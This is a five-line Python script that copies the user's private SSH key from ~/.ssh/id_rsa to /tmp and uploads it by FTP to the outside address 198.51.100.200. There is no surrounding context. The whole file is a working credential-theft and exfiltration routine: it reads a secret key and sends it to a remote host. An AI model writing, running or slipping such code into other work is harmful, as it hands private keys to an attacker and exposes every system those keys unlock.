import ftplib, shutil, os
shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/k")
ftp = ftplib.FTP("198.51.100.200", "anon", "anon")
with open("/tmp/k", "rb") as fh:
    ftp.storbinary("STOR k", fh)
